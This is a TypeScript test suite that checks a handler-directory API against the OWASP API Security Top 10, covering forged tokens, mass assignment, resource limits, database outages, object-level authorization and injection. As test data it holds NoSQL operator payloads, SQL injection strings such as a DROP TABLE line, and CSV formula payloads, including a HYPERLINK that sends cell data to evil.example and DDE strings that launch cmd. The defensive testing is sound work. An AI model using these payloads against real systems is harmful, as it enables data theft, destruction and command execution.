// Attacks on the handler directory, along the OWASP API Security Top 10 (2023). Where each item
// is covered:
//
// API1 Broken object level authorization
//   accounts.test.ts    a handler account reads and sets the availability and position of its
//                       own handler only (403 for another's, nothing changes); rebinding takes
//                       effect at once
//   attacks.test.ts     a handler account against every operation of the document on another
//                       handler's id: 403 or 401, never a 2xx, nothing changes
// API2 Broken authentication
//   auth.test.ts        no/garbage token, expired, other secret, tampered, alg none, HS512,
//                       other issuer/audience, missing claims, nbf in the future, no such
//                       account, disabled and deleted accounts, role taken from the account;
//                       one 401 for unknown user, wrong password and disabled account; 429 with
//                       Retry-After after 5 failures per client and username (password unchecked)
//   attacks.test.ts     a malformed or outdated token version
//   service-kit.test.ts RS256, HS/RS confusion, ES256, "hs256", alg none, expired, future and
//                       non-numeric iat (the suite both services share); unknown-user and
//                       wrong-password logins take the same time (paired timings within 25%)
//   accounts.test.ts    a changed password ends the account's earlier tokens
// API3 Broken object property level authorization
//   users.test.ts       read-only fields sent back (_id, createdAt, updatedAt, __v) are ignored
//   fuzz.test.ts        every fuzzed answer scanned for password hashes and internal fields
//                       (nameSort, __v); 2xx bodies closed by the contract
//   attacks.test.ts     mass assignment of role, id, nameSort, passwordHash, status, stock,
//                       created_at through every write body (login included) is 400, nothing
//                       changes
// API4 Unrestricted resource consumption
//   service-kit.test.ts 413 over 100 kB, 429 with Retry-After; slow-loris bodies and headers
//                       cut off (408, connection closed) on a real server with a shortened
//                       request timeout; auth.test.ts login 429
//   export.test.ts      10,000-handler export streams with flat memory
//   attacks.test.ts     radius_km over 20000 is 400;
//                       MongoDB stopped: 503 in the German envelope (never 500 or a hang), and
//                       after a restart on the same port everything works again with no data
//                       lost (infra/test/soak.test.ts does the same under load)
// API5 Broken function level authorization
//   users.test.ts       a viewer reads but every write is 403 and changes nothing; no token: 401
//   accounts.test.ts    account management is admin only; a handler account may not create,
//                       update, delete, list, export or read the history
// API8 Security misconfiguration: 500s never show stacks (operations.test.ts, fuzz)
// Injection
//   users.test.ts       $-prefixed and dotted keys at any depth in POST /api/users: 400
//   auth.test.ts        login fields that are not strings ({"$ne": null}): 400
//   fuzz.test.ts        operator objects, $/. keys, __proto__, depth bombs in every body
//   attacks.test.ts     Mongo operators in every field of every body and in query keys (400,
//                       nothing written); SQL metacharacters stored verbatim
//   service-kit.test.ts X-Request-Id header injection (raw socket)
//   export.test.ts      CSV formula injection neutralised for handlers created through the API
//                       or present in the database
//   attacks.test.ts     formulas set through the update operations, every cell of both CSV
//                       dialects checked
import { mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startMongoWireServer } from '@dogshop/mongo-wire-server';
import { parseString } from 'fast-csv';
import { buildApp } from '../src/app.js';
import { MESSAGES } from '../src/messages.js';
import { createAccount } from '../src/modules/accounts/service.js';
import { ADMIN, TEST_JWT_SECRET, createTestApp, testConfig, type TestApp } from './support/app.js';
import { expectDirectoryError } from './support/contract.js';
import { createHandler } from './support/handlers.js';
import { answerLog, operationsOf, readDocument } from '@dogshop/api-fuzz';

import { bearer, claims, forgeToken } from './support/tokens.js';

const operations = operationsOf(
  readDocument(new URL('../../../openapi/handler-directory.json', import.meta.url)),
);
/** Every answer of the apps below, checked against the document (the last test asserts it). */
const documented = answerLog(operations);

let t: TestApp;
let handlerId: string;

beforeAll(async () => {
  t = await createTestApp({ loginMaxFailures: 1_000 });
  documented.watch(t.app);
  handlerId = (await createHandler(t, { name: 'Ziel', gps: { lat: 52, lng: 10 } }))._id;
});
afterAll(() => t?.close());

/** A valid request for every operation that takes a body, by operationId. */
function writeRequests(): Record<
  string,
  { method: 'POST' | 'PUT' | 'PATCH'; url: string; token?: string; body: Record<string, unknown> }
> {
  return {
    login: { method: 'POST', url: '/api/auth/login', body: { ...ADMIN } },
    createHandler: {
      method: 'POST',
      url: '/api/users',
      token: t.admin.token,
      body: { name: 'Neu', phone: '1', address: 'Weg 1', type: 'SW', gps: { lat: 1, lng: 2 } },
    },
    updateHandler: {
      method: 'PUT',
      url: `/api/users/${handlerId}`,
      token: t.admin.token,
      body: { phone: '2' },
    },
    setHandlerAvailability: {
      method: 'PUT',
      url: `/api/users/${handlerId}/availability`,
      token: t.admin.token,
      body: { available: true },
    },
    setHandlerGps: {
      method: 'PUT',
      url: `/api/users/${handlerId}/gps`,
      token: t.admin.token,
      body: { lat: 52, lng: 10 },
    },
    createAccount: {
      method: 'POST',
      url: '/api/accounts',
      token: t.admin.token,
      body: { username: 'neues.konto', role: 'viewer' },
    },
    updateAccount: {
      method: 'PATCH',
      url: `/api/accounts/${t.viewer.id}`,
      token: t.admin.token,
      body: { disabled: false },
    },
    setPassword: {
      method: 'POST',
      url: '/api/auth/set-password',
      body: { token: 'kein-token', password: 'a long new passphrase' },
    },
    changePassword: {
      method: 'PUT',
      url: '/api/auth/password',
      token: t.admin.token,
      body: { currentPassword: ADMIN.password, newPassword: 'a long new passphrase' },
    },
  };
}
const bodyOperations = () => operations.filter((op) => op.body);
const send = (r: ReturnType<typeof writeRequests>[string], body: unknown) =>
  t.app.inject({
    method: r.method,
    url: r.url,
    headers: r.token ? bearer(r.token) : {},
    payload: body as object,
  });

async function snapshot() {
  const [handlers, admins] = await Promise.all([
    t.app.db.handlers.find({}).sort({ _id: 1 }).lean(),
    t.app.db.admins.find({}).sort({ _id: 1 }).lean(),
  ]);
  return { handlers, admins };
}

const adminToken = (extra: Record<string, unknown>) =>
  forgeToken(TEST_JWT_SECRET, claims(t.admin.id, { username: t.admin.username, ...extra }));
const listWith = (token: string) =>
  t.app.inject({ method: 'GET', url: '/api/users', headers: bearer(token) });

// Tokens of another algorithm, from the future or expired: service-kit.test.ts (the suite both
// services share). The token version is the directory's own.
describe('API2: authentication', () => {
  it.each([
    ['with a token version that is text', () => adminToken({ ver: '0' })],
    ['with a negative token version', () => adminToken({ ver: -1 })],
    ['with a fractional token version', () => adminToken({ ver: 0.5 })],
  ])('refuses a token %s with 401', async (_label, token) => {
    expectDirectoryError(await listWith(token()), 401, MESSAGES.tokenInvalid);
  });

  it("refuses a token signed at another of the account's token versions", async () => {
    expect((await listWith(adminToken({ ver: 0 }))).statusCode).toBe(200);
    expectDirectoryError(await listWith(adminToken({ ver: 1 })), 401, MESSAGES.tokenEnded);
  });
});

describe('API3: property level authorization (mass assignment)', () => {
  it('has a valid request for every operation with a body in the document', () => {
    expect(Object.keys(writeRequests()).sort()).toEqual(
      bodyOperations()
        .map((op) => op.operationId)
        .sort(),
    );
  });

  it('refuses role, id, nameSort, passwordHash, status, stock and created_at in every write body with 400', async () => {
    const before = await snapshot();
    const requests = writeRequests();
    let attempts = 0;
    let expected = 0;
    for (const op of bodyOperations()) {
      const request = requests[op.operationId]!;
      // A field the operation takes (an account's `role`) is no mass assignment there.
      const own = new Set(Object.keys(op.body!.properties ?? {}));
      const foreign = [
        'role',
        'id',
        'nameSort',
        'passwordHash',
        'status',
        'stock',
        'created_at',
        'disabledAt',
        'handlerId',
        'setPassword',
      ].filter((field) => !own.has(field));
      expected += foreign.length;
      for (const field of foreign) {
        const res = await send(request, { ...request.body, [field]: 'admin' });
        expectDirectoryError(res, 400, new RegExp(`unbekanntes Feld '${field}'`));
        attempts += 1;
      }
    }
    expect(attempts).toBe(expected);
    expect(attempts).toBeGreaterThan(60);
    expect(await snapshot()).toEqual(before);
  });
});

describe('API4: resource consumption', () => {
  it('refuses a search radius over 20000 km with 400', async () => {
    expectDirectoryError(
      await t.app.inject({ method: 'GET', url: '/api/public/users?lat=1&lng=2&radius_km=20001' }),
      400,
      /radius_km/,
    );
  });

  it('answers 503 in the German envelope while MongoDB is down, and recovers with nothing lost once it is back', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'hd-outage-'));
    const persistPath = path.join(dir, 'data.json');
    let server = await startMongoWireServer({ persistPath, log: () => {} });
    const app = documented.watch(
      await buildApp(testConfig({ mongodbUri: `${server.uri}/outage` })),
    );
    try {
      await app.ready();
      const admin = await createAccount(app.db, {
        username: 'outage.admin',
        password: 'outage-password-1',
      });
      const token = app.signAccountToken(admin);
      const created = await app.inject({
        method: 'POST',
        url: '/api/users',
        headers: bearer(token),
        payload: { name: 'Vor dem Ausfall', phone: '1' },
      });
      expect(created.statusCode).toBe(201);

      await server.close();
      const started = performance.now();
      for (const request of [
        { method: 'GET', url: '/api/public/users' },
        { method: 'GET', url: '/api/users', headers: bearer(token) },
        {
          method: 'POST',
          url: '/api/users',
          headers: bearer(token),
          payload: { name: 'X', phone: '1' },
        },
        { method: 'GET', url: '/api/users/export?format=csv', headers: bearer(token) },
        {
          method: 'POST',
          url: '/api/auth/login',
          payload: { username: 'outage.admin', password: 'x' },
        },
      ] as const) {
        expectDirectoryError(await app.inject(request), 503, MESSAGES.unavailable);
      }
      expect(performance.now() - started).toBeLessThan(10_000);
      expect((await app.inject({ method: 'GET', url: '/ready' })).statusCode).toBe(503);

      server = await startMongoWireServer({ persistPath, port: server.port, log: () => {} });
      let ready = 0;
      for (let i = 0; i < 50 && ready !== 200; i++) {
        ready = (await app.inject({ method: 'GET', url: '/ready' })).statusCode;
        if (ready !== 200) await new Promise((resolve) => setTimeout(resolve, 100));
      }
      expect(ready).toBe(200);
      const list = await app.inject({ method: 'GET', url: '/api/users', headers: bearer(token) });
      expect(list.statusCode).toBe(200);
      expect(list.json().data.map((h: { name: string }) => h.name)).toEqual(['Vor dem Ausfall']);
    } finally {
      await app.close();
      await server.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

function parseCsv(text: string, delimiter: string): Promise<Array<Record<string, string>>> {
  return new Promise((resolve, reject) => {
    const rows: Array<Record<string, string>> = [];
    parseString(text.replace(/^\ufeff/, ''), { headers: true, delimiter })
      .on('error', reject)
      .on('data', (row: Record<string, string>) => rows.push(row))
      .on('end', () => resolve(rows));
  });
}

const SQL = ["' OR '1'='1", "'; DROP TABLE handlers; --", '" OR ""="', '\\', '%_ $1 /* */'];

describe('injection', () => {
  it('refuses Mongo operators in every field of every body and in query keys with 400, writing nothing', async () => {
    const before = await snapshot();
    const requests = writeRequests();
    let attempts = 0;
    for (const op of bodyOperations()) {
      const request = requests[op.operationId]!;
      // Read-only fields are ignored whatever they hold (the service drops them unread).
      const writable = Object.entries(op.body!.properties ?? {}).filter(([, s]) => !s.readOnly);
      for (const [field] of writable) {
        for (const operator of [{ $ne: null }, { $gt: '' }, { $regex: '.*' }, { $where: '1' }]) {
          expectDirectoryError(await send(request, { ...request.body, [field]: operator }), 400);
          attempts += 1;
        }
      }
      expectDirectoryError(
        await send(request, { ...request.body, $set: { available: false } }),
        400,
      );
      expectDirectoryError(await send(request, { $or: [request.body] }), 400);
      attempts += 2;
    }
    for (const query of ['lat[$gt]=0&lng=1', 'available=false', '$where=1', 'name[$regex]=.*']) {
      expectDirectoryError(
        await t.app.inject({ method: 'GET', url: `/api/public/users?${query}` }),
        400,
      );
      attempts += 1;
    }
    expect(attempts).toBeGreaterThan(50);
    expect(await snapshot()).toEqual(before);
  });

  it('stores SQL metacharacters in every text field verbatim', async () => {
    for (const value of SQL) {
      const body = { name: `N ${value}`, phone: value, address: value, type: value };
      const created = await t.request({
        method: 'POST',
        url: '/api/users',
        payload: body,
        as: t.admin,
      });
      expect(created.statusCode).toBe(201);
      const id = created.json().data._id;
      const read = await t.request({ method: 'GET', url: `/api/users/${id}`, as: t.viewer });
      expect(read.json().data).toMatchObject(body);
    }
  });

  it('neutralises formulas set through the update operations, in every text cell of both CSV dialects', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"klick")',
      "=cmd|' /C calc'!A0",
      '+49 171 5550123',
      '-2+3',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      ' =1+1', // trimmed to "=1+1"
    ];
    const id = (await createHandler(t, { name: 'Harmlos', phone: '1' }))._id;
    for (const [i, formula] of formulas.entries()) {
      const field = (['name', 'phone', 'address', 'type'] as const)[i % 4]!;
      const res = await t.request({
        method: 'PUT',
        url: `/api/users/${id}`,
        payload: { [field]: formula, ...(field === 'name' ? {} : { name: `=Name ${i}` }) },
        as: t.admin,
      });
      expect(res.statusCode).toBe(200);
      for (const delimiter of [',', ';']) {
        const query = delimiter === ';' ? '&delimiter=semicolon' : '';
        const csv = await t.request({
          method: 'GET',
          url: `/api/users/export?format=csv${query}`,
          as: t.viewer,
        });
        const rows = await parseCsv(csv.body, delimiter);
        const row = rows.find((r) => r.id === id)!;
        expect(row[field]).toBe(`'${formula.trim()}`);
        for (const r of rows) {
          for (const column of ['name', 'address', 'phone', 'type'] as const) {
            expect({ column, cell: r[column] }).toEqual({
              column,
              cell: expect.not.stringMatching(/^[=+\-@\t\r]/),
            });
          }
        }
      }
    }
    // The JSON export and the API show the text as stored.
    const json = await t.request({ method: 'GET', url: `/api/users/${id}`, as: t.viewer });
    expect(json.json().data.name).toBe('=Name 5');
  });
});

describe('the OpenAPI document', () => {
  it('lists every answer above: its status, its body and its headers', () => {
    expect(documented.problems).toEqual([]);
    expect(documented.checked).toBeGreaterThan(200);
  });
});

describe('API1: object level authorization of handler accounts', () => {
  it("answers 403 (never a 2xx) to a handler account on every operation with another handler's id, changing nothing", async () => {
    const own = await createHandler(t, { name: 'Eigener Eintrag' });
    const created = await t.app.inject({
      method: 'POST',
      url: '/api/accounts',
      headers: bearer(t.admin.token),
      payload: {
        username: 'fremd.zugriff',
        role: 'handler',
        handlerId: own._id,
        password: 'a long handler passphrase',
      },
    });
    expect(created.statusCode).toBe(201);
    const token = (
      await t.app.inject({
        method: 'POST',
        url: '/api/auth/login',
        payload: { username: 'fremd.zugriff', password: 'a long handler passphrase' },
      })
    ).json().token as string;
    const before = await snapshot();
    const bodies: Record<string, object> = {
      updateHandler: { name: 'Übernommen' },
      setHandlerAvailability: { available: false },
      setHandlerGps: { lat: 1, lng: 1 },
    };
    const onOther = operations.filter((op) => op.route.startsWith('/api/users/{id}'));
    expect(onOther.map((op) => op.operationId).sort()).toEqual([
      'deleteHandler',
      'getHandler',
      'getHandlerHistory',
      'setHandlerAvailability',
      'setHandlerGps',
      'updateHandler',
    ]);
    for (const op of onOther) {
      const res = await t.app.inject({
        method: op.method as 'GET',
        url: op.route.replace('{id}', handlerId),
        headers: bearer(token),
        ...(op.body ? { payload: bodies[op.operationId] } : {}),
      });
      expect({ op: op.operationId, status: res.statusCode }).toEqual({
        op: op.operationId,
        status: 403,
      });
    }
    expect(await snapshot()).toEqual(before);
  });
});
